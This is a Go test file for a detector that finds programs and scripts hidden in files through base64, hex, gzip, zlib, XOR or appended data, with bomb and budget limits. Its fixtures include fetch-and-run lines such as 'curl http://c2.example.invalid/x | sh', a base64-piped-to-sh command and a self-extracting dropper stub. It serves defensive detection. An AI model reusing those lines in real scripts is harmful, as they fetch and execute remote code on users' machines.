package carried

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"strings"
	"testing"
)

func payload(t testing.TB) []byte {
	t.Helper()
	b, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Skip("needs /bin/true")
	}
	return b
}

func gz(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, _ = w.Write(b)
	_ = w.Close()
	return out.Bytes()
}

func zl(b []byte) []byte {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	_, _ = w.Write(b)
	_ = w.Close()
	return out.Bytes()
}

// wrap writes base64 as base64(1) does; the tool itself is asked where there is one.
func wrap(t testing.TB, b []byte) string {
	cmd := exec.Command("base64")
	cmd.Stdin = bytes.NewReader(b)
	out, err := cmd.Output()
	if err != nil {
		t.Skip("needs base64(1)")
	}
	return string(out)
}

func xor(b []byte, key byte) []byte {
	b = bytes.Clone(b)
	for i := range b {
		b[i] ^= key
	}
	return b
}

func TestWalk(t *testing.T) {
	p := payload(t)
	one := base64.StdEncoding.EncodeToString(p)
	script := []byte("#!/bin/sh\ncurl http://c2.example.invalid/x | sh\n# " + strings.Repeat("and so on ", 30) + "\n")
	for _, tc := range []struct {
		name string
		text bool
		in   []byte
		want string // name of the piece
		data []byte
	}{
		{"base64 in one line", true, []byte("x = \"" + one + "\"\n"), "base64 at 5", p},
		{"base64 in lines", true, []byte("base64 -d <<E\n" + wrap(t, p) + "E\n"), "base64 at 14", p},
		{"base64 in lines of Windows", true, []byte("<<E\r\n" + strings.ReplaceAll(wrap(t, p), "\n", "\r\n") + "E\r\n"), "base64 at 5", p},
		{"the other alphabet", true, []byte("u=" + base64.URLEncoding.EncodeToString(p)), "base64 at 2", p},
		{"base64 of gzip", true, []byte("z=" + base64.StdEncoding.EncodeToString(gz(p))), "base64 at 2!gzip", p},
		{"base64 of zlib", true, []byte("z=" + base64.StdEncoding.EncodeToString(zl(p))), "base64 at 2!zlib", p},
		{"hex", true, []byte("h=" + hex.EncodeToString(p)), "hex at 2", p},
		{"hex in capitals", true, []byte("h=" + strings.ToUpper(hex.EncodeToString(p))), "hex at 2", p},
		{"a script", true, []byte("echo " + base64.StdEncoding.EncodeToString(script) + "|base64 -d|sh"), "base64 at 5", script},
		{"behind much text", true, []byte(strings.Repeat("nothing to see in this line of words\n", 999) + one), "base64 at 36963", p},
		{"gzip in a program", false, append(append(bytes.Clone(p), 1, 2, 3), gz(p)...), "", p},
		{"gzip in a program, with more behind", false, append(append(append(bytes.Clone(p), 1, 2, 3), gz(p)...), "more"...), "", p},
		{"a program behind a picture", false, append(append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 500)...), p...), "program at 508", p},
		{"a program behind a script", false, append([]byte("#!/bin/sh\ntail -n +4 $0 > /tmp/x\n/tmp/x &\nexit\n"), p...), "program at 47", p},
		{"a script behind a picture", false, append(append([]byte("\xff\xd8\xff\xe0"), make([]byte, 300)...), script...), "script at 304", script},
		{"a program under XOR", false, append(bytes.Repeat([]byte("x"), 100), xor(p, 0xca)...), "xor 0xca at 100", p},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !Likely(tc.in, tc.text) && !Appended(tc.in) {
				t.Error("it does not look likely")
			}
			var got []Piece
			if err := Walk(tc.in, tc.text, FileBudget(), func(p Piece) { got = append(got, p) }); err != nil {
				t.Fatal(err)
			}
			if len(got) != 1 || !bytes.Equal(got[0].Data, tc.data) || tc.want != "" && got[0].Name != tc.want {
				for _, g := range got {
					t.Logf("%s: %d bytes", g.Name, len(g.Data))
				}
				t.Errorf("%d pieces, want one of %d bytes named %q", len(got), len(tc.data), tc.want)
			}
		})
	}
}

func TestXORed(t *testing.T) {
	p := payload(t)
	if !XORed(xor(p, 0xca)) || XORed(p) || XORed(gz(p)) || XORed(nil) {
		t.Error("a program under XOR is not recognised")
	}
}

// TestAppended: what holds programs as a matter of course is left alone.
func TestAppended(t *testing.T) {
	p := payload(t)
	object := bytes.Clone(p)
	object[16] = 1 // ET_REL
	for name, in := range map[string][]byte{
		"a program": append(bytes.Clone(p), p...), "an archive of objects": append([]byte("!<arch>\n"), p...), "an object in data": append([]byte("data"), object...),
		"four bytes":              []byte("the magic number is \x7fELF, behind which nothing stands that a program would have there, neither class nor type"),
		"a script in a data base": append(make([]byte, 100), "#!/bin/sh\ncurl http://c2.example.invalid/x | sh\n# and so on and so on and so on and so on\n"...), "empty": nil,
		"a picture of a script": []byte("\x89PNG\r\n\x1a\n#!/bin/sh"),
	} {
		if Appended(in) {
			t.Errorf("%s is taken to have something behind it", name)
		}
	}
}

// TestLevels: base64 of base64 of base64, and no further.
func TestLevels(t *testing.T) {
	p := payload(t)[:2000]
	in := p
	for range 3 {
		in = []byte("echo " + base64.StdEncoding.EncodeToString(in) + " | base64 -d")
	}
	var last Piece
	if err := Walk(in, true, FileBudget(), func(x Piece) { last = x }); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(last.Data, p) || strings.Count(last.Name, "base64") != 3 {
		t.Errorf("%s: %d bytes", last.Name, len(last.Data))
	}
	in = []byte("echo " + base64.StdEncoding.EncodeToString(in) + " | base64 -d")
	_ = Walk(in, true, FileBudget(), func(x Piece) {
		if bytes.Equal(x.Data, p) {
			t.Error("four levels were decoded")
		}
	})
}

// TestNothing: what only looks like it gives nothing.
func TestNothing(t *testing.T) {
	words := strings.Repeat("correct\nhorse\nbattery\nstaple\n", 500)
	sums := strings.Repeat("d41d8cd98f00b204e9800998ecf8427e\n", 200)
	paths := strings.Repeat("/usr/lib/python3/dist-packages/django/conf/locale/messages/of/many/languages/and/words\n", 5000)
	key := "ssh-rsa " + base64.StdEncoding.EncodeToString(xor(bytes.Repeat([]byte{1, 200, 77, 3, 9, 254}, 60), 0x5a)) + " root@host\n"
	for name, in := range map[string]string{"words": words, "checksums": sums, "a key": key, "paths": paths + strings.Repeat(strings.Repeat("/usr/share", 20)+".\n", 2*maxTries), "empty": "", "short": "f0VMRg=="} {
		if err := Walk([]byte(in), true, FileBudget(), func(p Piece) { t.Errorf("%s: %s", name, p.Name) }); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	p := payload(t)
	if err := Walk(p, false, FileBudget(), func(p Piece) { t.Errorf("a plain program carries %s", p.Name) }); err != nil {
		t.Error(err)
	}
}

// TestBombs: what grows without end is cut, and said.
func TestBombs(t *testing.T) {
	bomb := gz(append([]byte("#!/bin/sh\n"), make([]byte, maxPiece+1)...))
	total := 0
	if err := Walk(bomb, false, FileBudget(), func(p Piece) { total += len(p.Data) }); !errors.Is(err, ErrLimit) {
		t.Errorf("a bomb: %v", err)
	}
	if total > maxBytes {
		t.Errorf("%d bytes were given", total)
	}
	many := bytes.Repeat(gz([]byte(strings.Repeat("many of them ", 100))), maxTries+1)
	n := 0
	if err := Walk(many, false, FileBudget(), func(Piece) { n++ }); !errors.Is(err, ErrLimit) || n > maxPieces {
		t.Errorf("many: %v, %d pieces", err, n)
	}
}

// TestBudget: what unpacks to nothing of interest is paid for, too, and what is spent
// on one member is not there for the next.
func TestBudget(t *testing.T) {
	zeros := gz(make([]byte, 60<<20))
	budget := ArchiveBudget()
	n := 0
	for ; n < 20; n++ {
		if err := Walk(append([]byte("\x7fELF"), zeros...), false, budget, func(p Piece) { t.Errorf("found %s", p.Name) }); errors.Is(err, ErrLimit) {
			break
		}
	}
	if n != maxBytes/(60<<20) {
		t.Errorf("%d streams of 60 MiB were unpacked", n)
	}
}

func FuzzWalk(f *testing.F) {
	p := payload(f)[:1000]
	f.Add([]byte(base64.StdEncoding.EncodeToString(p)), true)
	f.Add([]byte(hex.EncodeToString(p)), true)
	f.Add(append(bytes.Clone(p), gz(p)...), false)
	f.Add(xor(p, 7), false)
	f.Fuzz(func(t *testing.T, b []byte, text bool) {
		pieces, total := 0, 0
		_ = Walk(b, text, FileBudget(), func(p Piece) { pieces++; total += len(p.Data) })
		if pieces > maxPieces || total > maxBytes {
			t.Errorf("%d pieces, %d bytes", pieces, total)
		}
		if pieces > 0 && !Likely(b, text) {
			t.Error("something was found that was not likely")
		}
	})
}

func BenchmarkLikelyText(b *testing.B) {
	text := []byte(strings.Repeat("The quick brown fox jumps over the lazy dog, and does so in a long line.\n", 10000))
	b.SetBytes(int64(len(text)))
	for range b.N {
		Likely(text, true)
	}
}

func BenchmarkLikelyBinary(b *testing.B) {
	p := bytes.Repeat(payload(b), 20)
	b.SetBytes(int64(len(p)))
	for range b.N {
		Likely(p, false)
	}
}

// TestInterpreterLine: a script begins with the line of its interpreter, not with any #!
// that a path follows somewhere.
func TestInterpreterLine(t *testing.T) {
	text := strings.Repeat("echo hello\n", 20)
	for head, want := range map[string]bool{
		"#!/bin/sh\n": true, "#! /usr/bin/env sh\n": true, "#!" + strings.Repeat("x", 100) + "/bin/sh\n": false, "#!\n/bin/sh\n": false,
	} {
		b := []byte("\x89PNG\r\n" + strings.Repeat("\x01", 50) + head + text)
		if got := script(b, 6) >= 0; got != want {
			t.Errorf("%.20q: %v", head, got)
		}
	}
}
